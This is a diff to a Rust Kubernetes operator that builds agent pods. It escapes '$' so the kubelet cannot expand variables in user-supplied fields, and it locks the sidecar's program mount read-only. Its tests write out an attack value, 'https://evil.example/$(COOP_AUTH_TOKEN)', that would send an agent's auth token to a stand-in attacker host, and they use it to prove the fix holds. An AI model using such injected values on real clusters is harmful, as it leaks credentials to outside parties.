@@ -1,4 +1,4 @@
-//! What an agent is made of in a cluster: a pod, a Secret with its token, a policy of the network, a claim of a volume.
+//! What an agent is made of in a cluster: a pod, a Secret with its token, a claim of a volume. Its policy is in `network`.
 //!
 //! All are named `agent-NAME`. A cluster has one pod of a name at a time, whoever makes it: that there is never a second
 //! sidecar for an agent rests on it.
@@ -18,6 +18,8 @@ const USER: i64 = 65532;
 const GRACE: i64 = 30;
 /// Labels of what belongs to an agent.
 pub(crate) const AGENT: &str = "coop.dev/agent";
+/// Label of a claim that agents may name as `existingClaim`. Whoever may write claims decides about it, not whoever may write Agents.
+pub(crate) const FOR_AGENTS: (&str, &str) = ("coop.dev/agents", "true");
 /// Which fleet has made an Agent.
 pub(crate) const FLEET: &str = "coop.dev/fleet";
 pub(crate) const MANAGED: (&str, &str) = ("app.kubernetes.io/managed-by", "coop");
@@ -54,7 +56,7 @@ pub(crate) fn child(agent: &str) -> String {
     format!("agent-{agent}")
 }
 
-fn metadata(agent: &Agent, goes_with_it: Goes) -> Value {
+pub(crate) fn metadata(agent: &Agent, goes_with_it: Goes) -> Value {
     let name = agent.name_any();
     let mut metadata = json!({
         "name": child(&name),
@@ -69,7 +71,7 @@ fn metadata(agent: &Agent, goes_with_it: Goes) -> Value {
 
 /// Whether something is deleted with its agent.
 #[derive(Clone, Copy, PartialEq, Eq)]
-enum Goes {
+pub(crate) enum Goes {
     WithAgent,
     Never,
 }
@@ -78,20 +80,6 @@ pub(crate) fn secret(agent: &Agent, token: &str) -> Value {
     json!({
         "apiVersion": "v1", "kind": "Secret", "metadata": metadata(agent, Goes::WithAgent), "type": "Opaque",
         "stringData": { TOKEN: token },
-    })
-}
-
-/// Lets nobody reach the agent's API but the operator and a fleet. Without a network that heeds it, the token is all that
-/// keeps others out.
-pub(crate) fn policy(agent: &Agent) -> Value {
-    let from = |name: &str| json!({ "podSelector": { "matchLabels": { "app.kubernetes.io/name": name } } });
-    json!({
-        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": metadata(agent, Goes::WithAgent),
-        "spec": {
-            "podSelector": { "matchLabels": { AGENT: agent.name_any() } },
-            "policyTypes": ["Ingress"],
-            "ingress": [{ "from": [from("coop-operator"), from("coop-fleet")], "ports": [{ "protocol": "TCP", "port": PORT }] }],
-        },
     })
 }
 
@@ -125,17 +113,16 @@ pub(crate) fn pod(agent: &Agent, images: &Images) -> Value {
     let locked = json!({
         "allowPrivilegeEscalation": false, "readOnlyRootFilesystem": true, "capabilities": { "drop": ["ALL"] },
     });
-    let mounts = json!([
-        { "name": "data", "mountPath": "/data" },
-        { "name": "tmp", "mountPath": "/tmp" },
-        { "name": "coop", "mountPath": "/coop" },
-    ]);
+    let data_and_tmp = [json!({ "name": "data", "mountPath": "/data" }), json!({ "name": "tmp", "mountPath": "/tmp" })];
+    let mounts = |more: &[Value]| json!([&data_and_tmp, more].concat());
+    // What runs in the agent's image cannot replace the program that the sidecar was started from.
+    let mut agent_mounts = vec![json!({ "name": "coop", "mountPath": "/coop", "readOnly": true })];
     let container = |name: &str, image: &str, policy: &Option<String>, rest: Value| {
-        let mut container = json!({ "name": name, "image": image, "securityContext": locked, "volumeMounts": mounts });
+        let mut container = json!({ "name": name, "image": image, "securityContext": locked });
         if let Some(policy) = policy {
             container["imagePullPolicy"] = json!(policy);
         }
-        merge(container, rest)
+        taken_as_it_is(merge(container, rest))
     };
     let mut unpack = vec!["unpack".to_owned(), "--folder".to_owned(), home.clone()];
     unpack.extend(["--folder".to_owned(), "/data/workspace".to_owned()]);
@@ -143,7 +130,8 @@ pub(crate) fn pod(agent: &Agent, images: &Images) -> Value {
         unpack.extend(["--to".to_owned(), "/coop/coop".to_owned()]);
     }
     let mut first = vec![container("coop", &images.coop, &images.pull_policy, {
-        json!({ "command": ["/usr/local/bin/coop"], "args": unpack })
+        let mounts = mounts(&[json!({ "name": "coop", "mountPath": "/coop" })]);
+        json!({ "command": ["/usr/local/bin/coop"], "args": unpack, "volumeMounts": mounts })
     })];
     if let Some(git) = &spec.workspace.git {
         // The words are the script's arguments, and never part of it.
@@ -157,11 +145,13 @@ pub(crate) fn pod(agent: &Agent, images: &Images) -> Value {
             format!("{own}/clone")
         ]);
         let env = json!([{ "name": "HOME", "value": home }]);
-        let rest = json!({ "command": ["/bin/sh"], "args": args, "env": env });
+        let rest = json!({ "command": ["/bin/sh"], "args": args, "env": env, "volumeMounts": mounts(&agent_mounts) });
         first.push(container("clone", &spec.image, &spec.image_pull_policy, rest));
     }
     let mut args = vec!["--agent".to_owned(), spec.driver.clone()];
     args.extend(isolation(spec).map(str::to_owned));
+    // Nobody is there to be asked, and what the folder's settings do, they do in the pod.
+    args.extend(isolation(spec).map(|_| "--trust".to_owned()));
     let served =
         ["--host", "0.0.0.0", "--port", &PORT.to_string(), "--health-port", &HEALTH.to_string(), "--linger", "forever"];
     args.extend(served.map(str::to_owned));
@@ -199,9 +189,7 @@ pub(crate) fn pod(agent: &Agent, images: &Images) -> Value {
     }
     let mut volumes = vec![json!({ "name": "tmp", "emptyDir": {} }), json!({ "name": "coop", "emptyDir": {} })];
     let mut more = |name: &str, folder: &str, what: &str, of: Value| {
-        let mount = json!({ "name": name, "mountPath": folder, "readOnly": true });
-        let so_far = main.get("volumeMounts").unwrap_or(&mounts);
-        main["volumeMounts"] = merge_lists(so_far, mount);
+        agent_mounts.push(json!({ "name": name, "mountPath": folder, "readOnly": true }));
         volumes.push(json!({ "name": name, what: of }));
     };
     if let Some(secret) = &spec.config_secret {
@@ -212,6 +200,7 @@ pub(crate) fn pod(agent: &Agent, images: &Images) -> Value {
         let items = json!([{ "path": "brief.json", "fieldRef": field }]);
         more("brief", BRIEF_FOLDER, "downwardAPI", json!({ "items": items, "defaultMode": 0o400 }));
     }
+    main["volumeMounts"] = mounts(&agent_mounts);
     let data = match (&spec.workspace.existing_claim, &spec.workspace.claim) {
         (Some(name), _) => json!({ "name": "data", "persistentVolumeClaim": { "claimName": name } }),
         (None, Some(_)) => {
@@ -276,10 +265,20 @@ fn environment(agent: &Agent, home: &str) -> Vec<Value> {
     variables
 }
 
-fn merge_lists(list: &Value, one: Value) -> Value {
-    let mut all = list.as_array().cloned().unwrap_or_default();
-    all.push(one);
-    Value::Array(all)
+/// Doubles each `$` where the kubelet would put variables in place of `$(NAME)`, the agent's token among them: it reads two as
+/// one that means nothing.
+fn taken_as_it_is(mut container: Value) -> Value {
+    let double = |value: &mut Value| {
+        if let Value::String(text) = value {
+            *text = text.replace('$', "$$");
+        }
+    };
+    for list in ["command", "args"] {
+        container[list].as_array_mut().into_iter().flatten().for_each(double);
+    }
+    let variables = container.get_mut("env").and_then(Value::as_array_mut);
+    variables.into_iter().flatten().filter_map(|variable| variable.get_mut("value")).for_each(double);
+    container
 }
 
 fn merge(mut one: Value, other: Value) -> Value {
@@ -295,7 +294,6 @@ mod tests {
     use std::os::unix::fs::PermissionsExt;
 
     use k8s_openapi::api::core::v1::{PersistentVolumeClaim, Pod, Secret};
-    use k8s_openapi::api::networking::v1::NetworkPolicy;
     use serde::Serialize;
     use serde::de::DeserializeOwned;
 
@@ -355,7 +353,6 @@ mod tests {
         let agent = agent();
         same::<Pod>(&pod(&agent, &images()));
         same::<Secret>(&secret(&agent, "hush"));
-        same::<NetworkPolicy>(&policy(&agent));
         same::<PersistentVolumeClaim>(&claim(&agent).expect("it wants one"));
     }
 
@@ -383,6 +380,86 @@ mod tests {
         let env = pod["spec"]["containers"][0]["env"].as_array().cloned().expect("variables");
         let last = env.iter().rfind(|variable| variable["name"] == "COOP_AUTH_TOKEN").expect("it is there");
         assert_eq!(last["valueFrom"]["secretKeyRef"], json!({ "name": "agent-fixer", "key": "token" }));
+    }
+
+    /// Puts variables in place of `$(NAME)` as the kubelet does in words and in values of variables.
+    fn expanded(text: &str, variables: &dyn Fn(&str) -> Option<String>) -> String {
+        let Some((before, after)) = text.split_once('$') else { return text.to_owned() };
+        let (found, rest) = match after.strip_prefix('(').and_then(|inside| inside.split_once(')')) {
+            Some((name, rest)) => (variables(name).unwrap_or_else(|| format!("$({name})")), rest),
+            None => ("$".to_owned(), after.strip_prefix('$').unwrap_or(after)),
+        };
+        format!("{before}{found}{}", expanded(rest, variables))
+    }
+
+    /// Returns all words and values of a pod's containers, as its processes have them.
+    fn words_in(pod: &Value) -> Vec<String> {
+        let containers = ["initContainers", "containers"].map(|kind| pod["spec"][kind].as_array().expect("some"));
+        let mut words = Vec::new();
+        for container in containers.into_iter().flatten() {
+            let lists = ["command", "args"].map(|list| container[list].as_array().expect("words"));
+            let values = container["env"].as_array().into_iter().flatten().map(|variable| &variable["value"]);
+            words.extend(lists.into_iter().flatten().chain(values).filter_map(Value::as_str).map(str::to_owned));
+        }
+        words.iter().map(|word| expanded(word, &|name| Some(format!("<the value of {name}>")))).collect()
+    }
+
+    type Field = (&'static str, fn(&mut AgentSpec, &str));
+    /// Where whoever applies an Agent can put a word of theirs.
+    const FIELDS: [Field; 7] = [
+        ("command", |spec, word| spec.command = vec!["run".into(), word.into()]),
+        ("env", |spec, word| drop(spec.env.insert("A".into(), word.into()))),
+        ("driver", |spec, word| spec.driver = word.into()),
+        ("runtime", |spec, word| spec.runtime = Some(word.into())),
+        ("git.url", |spec, word| spec.workspace.git.as_mut().expect("one").url = word.into()),
+        ("git.ref", |spec, word| spec.workspace.git.as_mut().expect("one").reference = Some(word.into())),
+        ("resume", |spec, word| {
+            (spec.managed_by, spec.resume) = (Manager::Fleet, Some(word.into()));
+        }),
+    ];
+
+    /// The attack: `git.url: https://evil.example/$(COOP_AUTH_TOKEN)` sends the agent's token to whoever has that server.
+    #[test]
+    fn the_kubelet_puts_no_variable_into_a_word() {
+        for (field, set) in FIELDS {
+            let mut agent = agent();
+            set(&mut agent.spec, "https://evil.example/$(COOP_AUTH_TOKEN)");
+            let words = words_in(&pod(&agent, &images()));
+            assert!(words.iter().any(|word| word == "https://evil.example/$(COOP_AUTH_TOKEN)"), "{field}: {words:?}");
+            assert!(!words.iter().any(|word| word.contains("<the value of")), "{field}: {words:?}");
+        }
+        let words = words_in(&pod(&agent(), &images()));
+        assert!(words.iter().any(|word| word == CLONE), "our own script is not changed either: {words:?}");
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn every_word_comes_to_the_process_as_it_is(word in "([$()a-zA-Z_]|\\PC){0,24}", field in 0..FIELDS.len()) {
+            let mut agent = agent();
+            FIELDS[field].1(&mut agent.spec, &word);
+            let words = words_in(&pod(&agent, &images()));
+            proptest::prop_assert!(words.contains(&word), "{}: {word:?} {words:?}", FIELDS[field].0);
+            proptest::prop_assert!(!words.iter().any(|word| word.contains("<the value of")), "{word:?} {words:?}");
+        }
+    }
+
+    /// The attack: an agent writes its own program over coop's, and whatever the sidecar starts by that path is the agent's.
+    #[test]
+    fn an_agents_image_cannot_replace_coops_program() {
+        let mut agent = agent();
+        agent.spec.config_secret = Some("own".into());
+        let made = pod(&agent, &images());
+        let mount = |kind: &str, number: usize| {
+            let mounts = made["spec"][kind][number]["volumeMounts"].as_array().cloned().expect("some");
+            mounts.into_iter().find(|mount| mount["name"] == "coop").expect("it is mounted")
+        };
+        assert_eq!(
+            mount("initContainers", 0),
+            json!({ "name": "coop", "mountPath": "/coop" }),
+            "coop unpack writes it"
+        );
+        let locked = json!({ "name": "coop", "mountPath": "/coop", "readOnly": true });
+        assert_eq!([mount("initContainers", 1), mount("containers", 0)], [locked.clone(), locked]);
     }
 
     #[test]
